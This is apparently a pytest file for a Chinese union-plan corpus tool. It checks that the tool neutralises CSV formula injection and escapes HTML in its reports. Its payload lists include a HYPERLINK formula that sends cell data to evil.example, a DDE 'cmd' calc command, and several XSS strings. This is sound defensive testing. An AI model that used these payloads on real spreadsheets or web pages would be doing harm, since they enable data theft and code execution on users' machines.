"""Text from submitted files never becomes a live formula or breaks a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import os
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from unioncorpus._safe import FORMULA_START, neutralise
from unioncorpus.cli import main

from ..conftest import CORPUS

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*2",
            "\t=1+1", "\r=1+1", "＝1+1"]  # fmt: skip


@pytest.fixture
def hostile_cells(tmp_path: Path) -> Path:
    """Plans whose titles, lines and file names start with formula characters or hold control bytes."""
    folder = tmp_path / "cells"
    folder.mkdir()
    body = (CORPUS / "09_primary_plan_copy_a.txt").read_text(encoding="utf-8").split("\n", 1)[1]
    for i, payload in enumerate(PAYLOADS):
        title = f"{payload}红星小学2024年工会工作计划"
        text = f"{payload}\n{title}\n{body}\n{payload}本文由范文网整理\n"
        (folder / f"p{i}.txt").write_text(text, encoding="utf-8")
    (folder / "=cmd.txt").write_text(f"=cmd\x07工会工作计划\n{body}", encoding="utf-8")
    with open(os.path.join(os.fsencode(folder), b"@\xb9\xa4\xbb\xe1.txt"), "wb") as f:
        f.write(("@工会2024年工作计划\n" + body).encode("utf-8"))
    shutil.copy(CORPUS / "04_vocational_plan.md", folder / "ok.md")
    return folder


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _assert_no_live_cells(folder: Path) -> int:
    """No CSV cell starts a formula; no XLSX cell is a formula or holds an illegal character."""
    checked = 0
    for path in folder.rglob("*.csv"):
        for cell in _csv_cells(path):
            checked += 1
            assert _is_number(cell) or not cell.startswith(FORMULA_START), (path.name, cell)
    for path in folder.rglob("*.xlsx"):
        for ws in load_workbook(path).worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    checked += 1
                    assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, (path.name, cell.coordinate, cell.value)
    return checked


def test_neutralise_follows_owasp() -> None:
    for payload in PAYLOADS:
        safe = neutralise(payload)
        assert not safe.startswith(FORMULA_START) and safe.lstrip("␉␍").startswith(("'", "=", "＝"))
    assert neutralise("工会") == "工会" and neutralise(-1.5) == -1.5 and neutralise(None) is None
    assert neutralise("a\x07b") == "a␇b"


def test_no_output_cell_is_a_formula(hostile_cells: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    result = runner.invoke(main, ["classify", str(hostile_cells), "--out", str(tmp_path / "c"), "-q"])
    assert result.exit_code == 0, result.output
    result = runner.invoke(main, ["analyze", str(hostile_cells), "--out", str(tmp_path / "a"), "-q", "--no-plots"])  # fmt: skip
    assert result.exit_code == 0, result.output
    assert _assert_no_live_cells(tmp_path) > 1000
    # The payloads did reach the outputs (neutralised, not dropped).
    cells = _csv_cells(tmp_path / "c" / "triage.csv")
    assert any(c.startswith("'=1+1") for c in cells)
    assert any(c.startswith("'=cmd␇") or "=cmd␇" in c for c in cells)
    titles = [c for c in _csv_cells(tmp_path / "a" / "documents.csv") if c.startswith("'")]
    assert len(titles) >= len(PAYLOADS)
    ws = load_workbook(tmp_path / "c" / "triage.xlsx").worksheets[0]
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(v.startswith("=1+1") for v in values)  # shown as written, stored as text
    html = (tmp_path / "c" / "report.html").read_text(encoding="utf-8")
    assert "\x07" not in html and "工会.txt" in html


def test_library_query_csv_is_formula_safe(hostile_cells: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    lib = tmp_path / "refs.sqlite"
    assert runner.invoke(main, ["library", "add", str(lib), str(hostile_cells), "-q"]).exit_code == 0
    result = runner.invoke(main, ["library", "query", str(lib), str(hostile_cells), "--format", "csv", "-q"])
    assert result.exit_code == 0, result.output
    out = tmp_path / "q.csv"
    out.write_text(result.stdout, encoding="utf-8")
    assert len(_csv_cells(out)) > 20
    _assert_no_live_cells(tmp_path)


MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
          "' onmouseover='alert(1)", '"><iframe src=javascript:alert(1)>', "</details><script>x()</script>"]  # fmt: skip


def test_report_escapes_everything_from_submitted_files(tmp_path: Path) -> None:
    from bs4 import BeautifulSoup

    from unioncorpus.report import SCRIPT

    folder = tmp_path / "markup"
    folder.mkdir()
    body = (CORPUS / "09_primary_plan_copy_a.txt").read_text(encoding="utf-8").split("\n", 1)[1]
    for payload in MARKUP:
        (folder / f"{payload.replace('/', '_')}.txt").write_text(f"{payload}红星小学2024年工会工作计划\n{body}{payload}\n", encoding="utf-8")  # fmt: skip
    (folder / "title.txt").write_text(
        f"{MARKUP[0]}\n", encoding="utf-8"
    )  # a bare title, shown in the reasons
    result = CliRunner().invoke(main, ["classify", str(folder), "--out", str(tmp_path / "o"), "-q"])
    assert result.exit_code == 0, result.output
    page = (tmp_path / "o" / "report.html").read_text(encoding="utf-8")
    soup = BeautifulSoup(page, "html.parser")
    scripts = soup.find_all("script")
    assert len(scripts) == 1 and scripts[0].string == SCRIPT
    assert not soup.find_all(["img", "svg", "iframe", "object", "embed", "link", "base", "form"])
    for tag in soup.find_all(True):
        assert not any(a.lower().startswith("on") for a in tag.attrs), tag.name
    assert "alert(1)" in soup.get_text()  # shown as text, not dropped
    csp = soup.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert "default-src 'none'" in csp and "unsafe-inline" not in csp.split("script-src")[1]


@pytest.mark.parametrize("dtype", ["str", "string", object])
def test_safe_table_changes_exactly_the_cells_neutralise_changes(dtype) -> None:
    # safe_table finds those cells a column at once (pyarrow's regex engine for text columns): it must
    # agree with neutralise cell by cell, on every character class neutralise cares about
    import pandas as pd

    from unioncorpus._safe import safe_table

    cells = [*PAYLOADS, "计划\x07", "a\x00b", "\x1b[31m", "名\u202e单", "x\u2069", "\x7f", "\x85下一行", "\xa0空格",
             "两行\n文字", "－3", "＋8", "＠人", "a-b", "a=b", "普通文字", "", None]  # fmt: skip
    table = pd.DataFrame({"text": pd.Series(cells, dtype=dtype), "n": range(len(cells))})
    got = safe_table(table)
    want = [neutralise(v) for v in table["text"]]
    assert [None if pd.isna(v) else v for v in got["text"]] == [None if pd.isna(v) else v for v in want]
    assert got["n"].tolist() == list(range(len(cells))) and table["text"].tolist()[:1] == PAYLOADS[:1]
